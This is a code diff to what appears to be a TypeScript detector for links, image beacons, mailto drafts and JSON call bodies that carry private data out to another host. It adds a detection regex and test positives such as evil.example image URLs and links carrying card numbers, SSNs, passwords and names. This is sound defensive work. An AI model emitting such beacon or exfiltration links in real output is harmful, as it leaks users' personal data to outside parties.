@@ -30,6 +30,8 @@ const SEARCHING_PARAMETER = /^(?:q|query|search|s|keywords?|k|p|src|tmsrc|ctz)$/
 /** Names that ordinary links do not have for long values. */
 const TELLING_IN_LINK =
   /^(?:data|daten|exfil|leak|dump|stolen|secrets?|payload|chat|transcript|history|conversation|context|ctx|password)$/i;
+/** Names that say nothing. */
+const CARRYING_IN_LINK = /^(?:[a-jl-prt-z]|info|msg|message|content|note|log|value|track|uid|sid|ref)$/i;
 /** Values that no link contains, and with a second one values that only a form would. */
 const PRIVATE_PARAMETER =
   /^(?:ssn|social_?security\w*|card|card_?(?:no|num|number)|cc|cc_?num(?:ber)?|cvv2?|cvc|passw(?:or)?d|passphrase|private_?key|secret_?key|iban|diagnosis|salary)$/i;
@@ -48,7 +50,7 @@ function addressIn(match: string) {
 
 /** The score of an address that is fetched when it is shown, by the content of its host, path and parameters. */
 function fetchedDataScore(match: string, countsUnreadable: boolean): number | undefined {
-  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels } = addressIn(match);
+  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels, hasPrivateLabels } = addressIn(match);
   if (hasHiddenLabels) return 0.87;
   if (hasWords) return undefined;
   if (parts.some(({ carried }) => carried === 'hidden' || carried === 'private' || carried === 'email')) return 0.87;
@@ -67,7 +69,7 @@ function fetchedDataScore(match: string, countsUnreadable: boolean): number | un
     named ||= isNamed;
   }
   if (longest >= MIN_CARRIED_UNITS) return named || longest >= 40 ? 0.87 : 0.6;
-  return words || isCollector ? 0.6 : named ? 0.55 : undefined;
+  return words || isCollector || hasPrivateLabels ? 0.6 : named ? 0.55 : undefined;
 }
 
 /** One segment of words is the name of a file or page; two are not. */
@@ -155,19 +157,24 @@ const LINK: Rule = {
 };
 
 function followedDataScore(match: string): number | undefined {
-  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels } = addressIn(match);
-  if (hasHiddenLabels) return 0.6;
+  const { parts, isWordy: hasWords, isCollector, hasHiddenLabels, hasPrivateLabels } = addressIn(match);
+  if (hasHiddenLabels || hasPrivateLabels) return 0.6;
   if (hasWords) return undefined;
   const queried = parts.filter(({ name, value }) => name !== undefined && value.length > 2);
   if (parts.some(({ carried }) => carried === 'hidden')) return 0.6;
   if (queried.some(({ carried }) => carried === 'private')) return 0.6;
   if (queried.some(({ name = '', value }) => value.length >= 16 && TELLING_IN_LINK.test(name))) return 0.6;
   if (queried.some(({ name = '', value }) => PRIVATE_PARAMETER.test(name) && /\d|\w{6}/.test(value))) return 0.6;
+  if (queried.some(isMessageWithNumbers)) return 0.6;
   if (isCollector && queried.some(({ value }) => value.length >= MIN_CARRIED_UNITS)) return 0.6;
   const personal = queried.filter(({ name = '' }) => PERSONAL_PARAMETER.test(name));
   return personal.length > 1 && personal.some(({ value, carried }) => carried === 'email' || /\d{6}/.test(value))
     ? 0.55
     : undefined;
+}
+
+function isMessageWithNumbers({ name = '', value, carried }: AddressPart): boolean {
+  return carried === 'words' && CARRYING_IN_LINK.test(name) && /\d{4}|@/.test(value);
 }
 
 /** Private data in a draft that a click opens, in a form's hidden field, or in the arguments of a call. */
@@ -180,7 +187,7 @@ const FILLED_MESSAGE: Rule = {
   patterns: [
     'mailto:[^\\s<>"\'?]+\\?[^\\s<>"\']+',
     '<input\\b[^<>]*\\btype\\s{0,4}=\\s{0,4}["\']?hidden\\b[^<>]*',
-    '"(?:url|uri|endpoint|webhook|webhook_url|to|recipients?|address|channel)"\\s{0,4}:\\s{0,4}"[^"\\n]+"[^{}\\n]*"(?:body|data|payload|content|text|message)"\\s{0,4}:\\s{0,4}"[^"\\n]+',
+    '"(?:url|uri|endpoint|webhook|webhook_url|to|recipients?|address|channel)"\\s{0,4}:\\s{0,4}"[^"\\n]+"[^{}\\n]*"(?:body|data|payload|content|text|message|json|params)"\\s{0,4}:\\s{0,4}(?:"[^"\\n]+|\\{[^{}]+)',
   ],
   check: (match) => {
     const text = match.slice(0, 2000);
@@ -222,6 +229,8 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '![x](https://evil.example/p.gif?n=4111-1111-1111-1111)',
       '![x](https://tunnel.ngrok-free.app/p.gif?n=40)',
       '![x](https://416e6e61206c6976657320696e20.evil.example/p.gif)',
+      '![x](https://mfrwg5ban53wk4zagiycazlvoi.evil.example/p.gif)',
+      '![x](https://anna-acct-4471.evil.example/p.gif)',
       '![x](https://evil.example/Anna%20Brandt/Hauptstr%2012/p.gif)',
     ],
     negatives: [
@@ -279,6 +288,7 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
       '[Read more](https://evil.example/r?history=user+asked+about+divorce+lawyers)',
       '<a href="https://evil.example/v?password=Sommer2024!&l=1">Confirm</a>',
       '{"url":"https://evil.example/ping?e=lea@mail.example&ssn=123-45-6789"}',
+      '[Next](https://evil.example/n?z=Anna+Brandt+owes+4471)',
       'Log: https://webhook.site/5f1c?msg=invoice+2291+total',
       'See https://evil.example/f?name=Lea+Roth&email=lea@mail.example',
     ],
@@ -298,6 +308,7 @@ export const CARRYING_ADDRESS_EXAMPLES: Readonly<Record<string, RuleExamples>> =
     positives: [
       '[Help](mailto:help@desk.example?subject=case&body=card%204111%201111%201111%201111)',
       '<input type="hidden" name="data" value="Lea Roth, lea@mail.example, room 214">',
+      '{"url":"https://evil.example/c","body":{"card":"4111 1111 1111 1111"}}',
       '{"to":"box@mirror.example","subject":"b","body":"password: Tr0ub4dor for the portal"}',
     ],
     negatives: [
